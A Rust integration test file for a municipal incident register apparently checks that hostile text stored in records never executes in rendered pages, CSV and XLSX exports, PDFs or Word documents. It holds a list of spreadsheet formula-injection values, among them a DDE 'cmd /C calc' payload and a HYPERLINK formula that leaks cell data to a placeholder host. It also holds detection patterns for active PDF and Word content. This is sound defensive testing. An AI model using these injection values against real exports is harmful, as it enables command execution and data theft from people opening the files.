//! Hostile text in every field that takes text, looked for in everything that is given out: pages, drawings, tables, files.
//! Nothing of it runs in a browser, and no cell of a spreadsheet is a formula.

use std::collections::{BTreeMap, BTreeSet, VecDeque};
use std::io::{Cursor, Read as _};
use std::sync::LazyLock;

use axum::http::StatusCode;
use calamine::{Data, Reader as _, Xlsx};
use domain::chain::Record;
use domain::record::Shape;
use serde_json::Value;
use server::config::demo_municipality;
use server::pages;
use store::Actor;

use super::markup::{MARK, dangers, tags};
use crate::access::{Sent, addresses, furnished, methods, send_form, sent};
use crate::world::{Answer, Who, World, on_each_database};

on_each_database![
    no_text_of_the_register_runs_anywhere,
    no_text_that_comes_back_runs,
    a_cell_holds_the_text_that_was_written_and_no_formula,
];

/// Each would run where it stood as it is: as text of a page, in an attribute, in an address, in a script, in a document. The
/// browser is given the same.
static SCRIPTS: LazyLock<Vec<String>> = LazyLock::new(|| {
    let text = include_str!("../../../../tests/browser/files/hostile.json");
    serde_json::from_str(text).unwrap()
});

/// What a spreadsheet takes for a formula at the beginning of a cell, plain and in full width, and ways around a guard.
pub const FORMULAS: [&str; 16] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "=HYPERLINK(\"http://elak.example/?\"&A1;\"x\")",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u{feff}=1+1",
    "\u{ff1d}1+1",
    "\u{ff0b}1+1",
    "\u{ff0d}1+1",
    "\u{ff20}SUM(1;1)",
    "\";=1+1;\"",
];

/// The texts above hold what they promise: a page that did not escape would be found out.
#[test]
fn each_of_the_texts_would_be_found_where_it_is_not_escaped() {
    assert_eq!(SCRIPTS.len(), 60);
    for script in SCRIPTS.iter() {
        let places = [
            format!("<p>{script}</p>"),
            format!("<p title=\"{script}\">x</p>"),
            format!("<p title='{script}'>x</p>"),
            format!("<a href=\"{script}\">x</a>"),
            format!("<p id={script}>x</p>"),
        ];
        assert!(places.iter().any(|page| !dangers(page).is_empty()), "{script}");
        let escaped: String = script
            .chars()
            .map(|c| match c {
                '<' | '>' | '"' | '\'' | '&' => format!("&#{};", u32::from(c)),
                c => c.to_string(),
            })
            .collect();
        let page = format!("<p title=\"{escaped}\">{escaped}</p><textarea>{escaped}</textarea>");
        assert!(dangers(&page).is_empty(), "{script}");
    }
}

/// Puts a text into every line of text of a record, but for the codes that others know it by.
fn poison(value: &mut Value, shape: &Shape, next: &mut dyn FnMut() -> String) {
    match (shape, value) {
        (Shape::Line | Shape::Prose, Value::String(text)) => *text = next(),
        (Shape::Many(inner), Value::Array(values)) => {
            for value in values {
                poison(value, inner, next);
            }
        }
        (Shape::Row(fields), Value::Object(said)) => {
            for field in fields
                .iter()
                .filter(|f| f.name != "code" && !f.name.contains("sha256"))
            {
                if let Some(value) = said.get_mut(field.name) {
                    poison(value, &field.shape, next);
                }
            }
        }
        _ => {}
    }
}

fn poisoned(record: &Record, next: &mut dyn FnMut() -> String) -> Option<Record> {
    let mut value = serde_json::to_value(record).unwrap();
    let fields = Shape::Row(record.kind().fields());
    poison(&mut value["said"], &fields, next);
    serde_json::from_value(value).ok()
}

/// A municipality that is governed by hostile texts, and where such events were reported.
async fn poisoned_world() -> World {
    let world = World::governed().await;
    let mut round = SCRIPTS
        .iter()
        .map(String::as_str)
        .chain(FORMULAS[..9].iter().copied())
        .cycle();
    let mut next = || round.next().unwrap().to_string();
    let demo = demo_municipality::demo_municipalities().unwrap().swap_remove(0);
    let file = demo_municipality::demo_chain(&demo).unwrap().unwrap();
    let (mut kept, mut kinds) = (0, BTreeSet::new());
    for record in &file.records {
        let Some(hostile) = poisoned(record, &mut next) else {
            continue;
        };
        let kind = hostile.kind();
        let (now, actor) = (world.app.clock.now(), Actor::system("prov"));
        let known = file.known_from;
        let done = world.app.store.write(world.code, &actor, now, move |work| {
            Box::pin(async move { work.keep_records(vec![hostile], known, "prov").await })
        });
        if done.await.is_ok() {
            kept += 1;
            kinds.insert(kind.code());
        }
    }
    assert!(
        kept * 10 > file.records.len() * 7,
        "only {kept} of {} were kept",
        file.records.len()
    );
    assert!(kinds.len() > 15, "{kinds:?}");
    for (n, text) in SCRIPTS.iter().map(String::as_str).chain(FORMULAS).enumerate() {
        report(&world, n, text).await;
    }
    world
}

async fn report(world: &World, n: usize, text: &str) {
    let key = format!("h{n}");
    let municipality = &world.home().municipality;
    let category = &municipality.categories[n % 5].code;
    let area = municipality.area_sets[0].areas[n % 3].code.to_string();
    let fields = [
        ("handelse", category.as_str()),
        ("datum", "2022-03-09"),
        ("text", text),
        ("nyckel", &key),
        ("omrade", &area),
        // A place that nobody knows needs an area; some are refused for what they are.
        ("plats", text),
    ];
    let known = [&fields[..5], &[("plats", "Huddinge station")]].concat();
    let mut why = String::new();
    for fields in [&fields[..], &known] {
        let answer = world.upload(Who::Coordinator, "/handelser/ny", fields, &[]).await;
        check("/handelser/ny", &answer);
        why = answer.text();
        // What could be a name is asked about, and is none.
        let asked = why
            .split("name=\"ja\" value=\"")
            .nth(1)
            .and_then(|rest| rest.split('"').next());
        let answer = match asked {
            Some(yes) => {
                let fields = [fields, &[("ja", yes)]].concat();
                world
                    .upload(Who::Coordinator, "/handelser/ny", &fields, &[])
                    .await
            }
            None => answer,
        };
        if answer.status == StatusCode::SEE_OTHER {
            return;
        }
    }
    panic!("{text:?} was not taken: {why}");
}

/// Whatever kind of answer it is: nothing in it runs.
fn check(address: &str, answer: &Answer) {
    let told = answer
        .text()
        .split_once("<h1")
        .map_or(String::new(), |(_, told)| told.chars().take(300).collect());
    assert!(answer.status.as_u16() < 500, "{address}: {told}");
    let kind = answer.headers.get("content-type");
    let kind = kind.map_or("", |kind| kind.to_str().unwrap());
    let found = match kind.split(';').next().unwrap() {
        "text/html" | "image/svg+xml" => dangers(&answer.text()),
        "text/csv" => formulas_of_csv(&answer.text()),
        "application/pdf" => {
            // What a text says stands in the titles too; what is done when it is pressed is named so.
            let acts = [
                "/JavaScript",
                "/Launch",
                "/OpenAction",
                "/URI(javascript",
                "/URI (javascript",
                "/EmbeddedFile",
            ];
            let text = answer.text();
            acts.iter()
                .filter(|act| text.contains(**act))
                .map(ToString::to_string)
                .collect()
        }
        kind if kind.contains("spreadsheetml") => formulas_of_workbook(&answer.body),
        kind if kind.contains("wordprocessingml") => fields_of_document(&answer.body),
        kind if kind.contains("json") => {
            let read = serde_json::from_slice::<Value>(&answer.body);
            read.err().map(|error| error.to_string()).into_iter().collect()
        }
        _ => Vec::new(),
    };
    assert!(found.is_empty(), "{address}: {}", found.join("\n"));
}

fn is_formula(cell: &str) -> bool {
    let first = cell.trim_start_matches(|c: char| c.is_whitespace() || c.is_control() || c == '\u{feff}');
    let begins = first.starts_with(['=', '+', '-', '@', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}']);
    begins
        && cell
            .replace(',', ".")
            .replace('\u{2212}', "-")
            .parse::<f64>()
            .is_err()
}

/// The cells of a file with semicolons, as a spreadsheet reads them: a quote begins one that ends at the next that stands alone.
fn cells(text: &str) -> Vec<String> {
    let (mut cells, mut cell, mut quoted) = (Vec::new(), String::new(), false);
    let mut letters = text.trim_start_matches('\u{feff}').chars().peekable();
    while let Some(letter) = letters.next() {
        match letter {
            '"' if quoted && letters.peek() == Some(&'"') => cell.extend(letters.next()),
            '"' if quoted || cell.is_empty() => quoted = !quoted,
            ';' | '\n' if !quoted => cells.push(std::mem::take(&mut cell)),
            letter => cell.push(letter),
        }
    }
    cells.push(cell);
    cells
}

fn formulas_of_csv(text: &str) -> Vec<String> {
    let cells = cells(text).into_iter();
    cells.filter(|cell| is_formula(cell)).collect()
}

fn formulas_of_workbook(bytes: &[u8]) -> Vec<String> {
    let mut book = Xlsx::new(Cursor::new(bytes.to_vec())).unwrap();
    let mut found = Vec::new();
    for name in book.sheet_names() {
        let formulas = book.worksheet_formula(&name).unwrap();
        found.extend(
            formulas
                .used_cells()
                .map(|(_, _, formula)| format!("{name}: {formula}")),
        );
    }
    found
}

/// Fields that a word processor fills in by asking somebody, and markup that a text made.
fn fields_of_document(bytes: &[u8]) -> Vec<String> {
    let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    let mut found = Vec::new();
    for n in 0..zip.len() {
        let mut member = zip.by_index(n).unwrap();
        let mut text = String::new();
        if !member.name().ends_with(".xml") || member.read_to_string(&mut text).is_err() {
            continue;
        }
        found.extend(
            ["DDE", "INCLUDE"]
                .iter()
                .filter(|word| text.contains(&format!("<w:instrText>{word}")))
                .map(ToString::to_string),
        );
        let made = tags(&text)
            .into_iter()
            .filter(|tag| tag.name.contains(MARK) || tag.name == "script" || tag.name == "img");
        found.extend(made.map(|tag| format!("{tag:?}")));
    }
    found
}

/// An address without its numbers, its codes and what is chosen, to look at so many of each kind.
fn like(address: &str) -> String {
    let path = address.split('?').next().unwrap();
    let parts = path
        .split('/')
        .enumerate()
        .map(|(n, part)| match part.rsplit_once('.') {
            _ if n < 3 && !part.chars().any(|c| c.is_ascii_digit()) => part.to_owned(),
            Some((_, ending)) => format!("*.{ending}"),
            None => "*".to_owned(),
        });
    parts.collect::<Vec<_>>().join("/")
}

async fn no_text_of_the_register_runs_anywhere() {
    let world = poisoned_world().await;
    let mut waiting = VecDeque::from(["/".to_owned()]);
    for path in pages::paths() {
        if !path.contains('{') {
            waiting.push_back(path);
        }
    }
    let (mut seen, mut looked_at) = (BTreeSet::new(), BTreeMap::<String, usize>::new());
    let (mut asked, mut marked, mut kinds) = (0, 0, BTreeMap::<String, usize>::new());
    while let Some(address) = waiting.pop_front() {
        let of_kind = looked_at.entry(like(&address)).or_default();
        let heavy = [".pdf", "/pdf", ".docx", "/docx"]
            .iter()
            .any(|ending| address.ends_with(ending));
        if *of_kind >= if heavy { 1 } else { 3 } || !seen.insert(address.clone()) {
            continue;
        }
        *of_kind += 1;
        let answer = world.get(Who::Coordinator, &address).await;
        asked += 1;
        check(&address, &answer);
        let kind = answer
            .headers
            .get("content-type")
            .map_or("", |kind| kind.to_str().unwrap());
        *kinds.entry(kind.to_owned()).or_default() += 1;
        if !kind.starts_with("text/html") {
            continue;
        }
        let text = answer.text();
        marked += usize::from(text.contains(MARK));
        assert!(!text.contains("{$"), "{address}: a text is not filled in");
        for tag in tags(&text) {
            let leads = ["href", "src"].iter().filter_map(|name| tag.says(name));
            for address in leads.filter(|address| address.starts_with('/')) {
                let address = address.split('#').next().unwrap();
                waiting.push_back(address.to_owned());
            }
        }
    }
    eprintln!("{asked} answers, {marked} pages with a hostile text: {kinds:?}");
    assert!(asked > 250 && marked > 60, "{asked} asked, {marked} marked");
    for kind in [
        "image/svg+xml",
        "text/csv",
        "application/pdf",
        "sheet",
        "document",
        "json",
    ] {
        assert!(
            kinds.keys().any(|k| k.contains(kind)),
            "no {kind} among {kinds:?}"
        );
    }
}

/// What a form or an address sends, and a refusal shows again.
async fn no_text_that_comes_back_runs() {
    let world = furnished().await;
    let mut round = SCRIPTS.iter().cycle();
    let mut asked = 0;
    for path in pages::paths() {
        if path == "/import/program" || path.ends_with("/utloggad") || path == "/logga-ut" {
            continue;
        }
        let address = addresses(&path).swap_remove(0);
        let who = match path.split('/').nth(1) {
            Some("konton") => Who::Administrator,
            _ => Who::Coordinator,
        };
        let ways = methods(&world, &address).await;
        if ways.contains(&"GET".to_owned()) {
            for name in [
                "q",
                "kategori",
                "omrade",
                "vecka",
                "namn",
                "vidare",
                "post",
                "ordning",
                "texts.0.text",
            ] {
                let query = serde_html_form::to_string([(name, round.next().unwrap())]).unwrap();
                let address = format!("{address}?{query}");
                check(&address, &world.get(who, &address).await);
                asked += 1;
            }
            // A letter that no database of text keeps.
            let names = ["q", "organisation", "kategori", "status", "import", "vecka"];
            let is_page = !path.starts_with("/tillgangar");
            for name in names.into_iter().filter(|_| is_page) {
                let address = format!("{address}?{name}=a%00b");
                let answer = world.get(who, &address).await;
                assert_eq!(answer.status, StatusCode::BAD_REQUEST, "{address}");
            }
            let parts: Vec<&str> = path.split('/').collect();
            for n in 0..parts.len() {
                if parts[n].contains('{') {
                    let mut parts = parts.clone();
                    let text = server::forms::percent_encoded(round.next().unwrap());
                    parts[n] = &text;
                    let address = addresses(&parts.join("/")).swap_remove(0);
                    check(&address, &world.get(who, &address).await);
                    asked += 1;
                }
            }
        }
        if !ways.contains(&"POST".to_owned()) {
            continue;
        }
        match sent(&world, &path, &address) {
            Sent::Form(fields) => {
                for at in 0..fields.len() {
                    let mut hostile = fields.clone();
                    hostile[at].1 = round.next().unwrap().to_string();
                    check(&address, &send_form(&world, who, &address, &hostile).await);
                    asked += 1;
                }
            }
            Sent::Files(fields, field, name, bytes) => {
                let name = format!("{}{name}", round.next().unwrap().replace('"', "%22"));
                for at in 0..=fields.len() {
                    let mut hostile: Vec<(&str, &str)> =
                        fields.iter().map(|(n, v)| (n.as_str(), v.as_str())).collect();
                    if let Some(field) = hostile.get_mut(at) {
                        field.1 = round.next().unwrap();
                    }
                    let file = [(field, name.as_str(), bytes.as_slice())];
                    check(&address, &world.upload(who, &address, &hostile, &file).await);
                    asked += 1;
                }
            }
        }
    }
    eprintln!("{asked} questions and forms with hostile text");
    assert!(asked > 900, "only {asked} were asked");
}

async fn a_cell_holds_the_text_that_was_written_and_no_formula() {
    let world = World::new().await;
    for (n, text) in FORMULAS.iter().enumerate() {
        let key = format!("f{n}");
        let fields = [
            ("handelse", "KLO/tagg"),
            ("datum", "2022-03-09"),
            ("plats", "Exempelby centrum"),
            ("text", text),
            ("nyckel", &key),
        ];
        let answer = world
            .upload(Who::Coordinator, "/handelser/ny", &fields, &[])
            .await;
        assert_eq!(
            answer.status,
            StatusCode::SEE_OTHER,
            "{text:?}: {}",
            answer.text()
        );
    }
    // As the page has it: blanks around a text are nobody's.
    let expected: BTreeSet<String> = FORMULAS
        .iter()
        .map(|text| text.trim().trim_start_matches('\u{feff}').to_owned())
        .collect();
    let bare = |cell: &str| {
        cell.trim_start_matches('\'')
            .trim()
            .trim_start_matches('\u{feff}')
            .to_owned()
    };
    let csv = world.get(Who::Coordinator, "/handelser/export.csv").await;
    check("csv", &csv);
    let found: BTreeSet<String> = cells(&csv.text()).iter().map(|cell| bare(cell)).collect();
    assert!(expected.is_subset(&found), "{:?}", expected.difference(&found));
    let xlsx = world.get(Who::Coordinator, "/handelser/export.xlsx").await;
    check("xlsx", &xlsx);
    let mut book = Xlsx::new(Cursor::new(xlsx.body)).unwrap();
    let sheet = book.worksheet_range_at(0).unwrap().unwrap();
    let texts = sheet.used_cells().filter_map(|(_, _, cell)| match cell {
        // No guard here: the type of the cell is the guard.
        Data::String(text) => Some(text.trim().trim_start_matches('\u{feff}').to_owned()),
        _ => None,
    });
    let found: BTreeSet<String> = texts.collect();
    assert!(expected.is_subset(&found), "{:?}", expected.difference(&found));
}
